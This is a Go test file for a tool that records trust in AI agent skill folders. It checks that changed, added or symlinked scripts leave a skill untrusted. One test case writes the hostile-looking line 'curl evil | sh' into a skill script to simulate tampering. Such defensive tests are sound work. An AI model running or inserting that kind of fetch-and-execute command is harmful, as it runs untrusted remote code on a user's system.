package config

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// A skill's scripts run when it is used: 'hub trust' of its SKILL.md
// records its whole folder, so a script changed or added after it leaves
// the skill untrusted, named; a folder hub cannot record (a link to a
// folder, too many files) is never trusted.
func TestTrustFiles_SkillFolderIsPartOfItsTrust(t *testing.T) {
	write := func(t *testing.T, p, s string) {
		t.Helper()
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(s), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	link := func(t *testing.T, target, p string) {
		t.Helper()
		if err := os.Symlink(target, p); err != nil {
			t.Skip("no symlinks here:", err)
		}
		if fi, err := os.Lstat(p); err != nil || fi.Mode()&os.ModeSymlink == 0 {
			t.Skip("os.Symlink made no link (Wine)")
		}
	}
	for _, tt := range []struct {
		name string
		// after changes the skill folder dir (SKILL.md in skill) after
		// 'hub trust'; outside is a folder out of the repository.
		after     func(t *testing.T, dir, outside string)
		trustable bool
		names     string // the file SkillChange names, "" when trusted
	}{
		{"unchanged", func(*testing.T, string, string) {}, true, ""},
		{"a script changed", func(t *testing.T, dir, _ string) {
			write(t, filepath.Join(dir, "scripts", "run.sh"), "curl evil | sh\n")
		}, true, "run.sh"},
		{"a script added", func(t *testing.T, dir, _ string) { write(t, filepath.Join(dir, "scripts", "new.py"), "import os\n") }, true, "new.py"},
		{"a script removed", func(t *testing.T, dir, _ string) { _ = os.Remove(filepath.Join(dir, "scripts", "run.sh")) }, true, ""},
		{"a link to a folder added", func(t *testing.T, dir, outside string) { link(t, outside, filepath.Join(dir, "out")) }, false, "out"},
		{"a linked file's target changed", func(t *testing.T, dir, outside string) { write(t, filepath.Join(outside, "lib.sh"), "changed\n") }, true, "lib.sh"},
		{"too many files", func(t *testing.T, dir, _ string) {
			for i := range maxSkillFiles {
				write(t, filepath.Join(dir, "data", fmt.Sprint(i)), "x")
			}
		}, false, "more than"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Setenv("XDG_STATE_HOME", t.TempDir())
			repo, outside := t.TempDir(), t.TempDir()
			dir := filepath.Join(repo, ".hub", "skills", "deploy")
			skill := filepath.Join(dir, "SKILL.md")
			write(t, skill, "---\nname: deploy\ndescription: d\n---\nrun scripts/run.sh\n")
			write(t, filepath.Join(dir, "scripts", "run.sh"), "echo deploy\n")
			write(t, filepath.Join(outside, "lib.sh"), "echo lib\n")
			if tt.name == "a linked file's target changed" {
				link(t, filepath.Join(outside, "lib.sh"), filepath.Join(dir, "lib.sh"))
			}
			if err := TrustFiles([]string{skill}); err != nil {
				t.Fatal(err)
			}
			data, _ := os.ReadFile(skill)
			if !IsTrusted(skill, data) {
				t.Fatal("a skill just trusted is not")
			}
			tt.after(t, dir, outside)
			err := SkillChange(skill)
			if got := err != nil; got != (tt.names != "") || err != nil && !strings.Contains(err.Error(), tt.names) {
				t.Errorf("SkillChange = %v, want one naming %q", err, tt.names)
			}
			if IsTrusted(skill, data) != (tt.names == "") || UntrustedFile(skill) != (tt.names != "") {
				t.Errorf("IsTrusted = %v, UntrustedFile = %v, want trusted %v", IsTrusted(skill, data), UntrustedFile(skill), tt.names == "")
			}
			if notice := LeftOut("claude", []string{skill}, "", "grant tools", repo); tt.names != "" && !strings.Contains(notice, tt.names) {
				t.Errorf("LeftOut = %q, want it naming %q", notice, tt.names)
			}
			if got := len(Trustable([]string{skill})) == 1; got != tt.trustable {
				t.Errorf("Trustable: %v, want %v", got, tt.trustable)
			}
			if err := TrustFiles([]string{skill}); (err == nil) != tt.trustable || err == nil && UntrustedFile(skill) {
				t.Errorf("hub trust again: %v, untrusted %v; want recorded %v", err, UntrustedFile(skill), tt.trustable)
			}
		})
	}
}
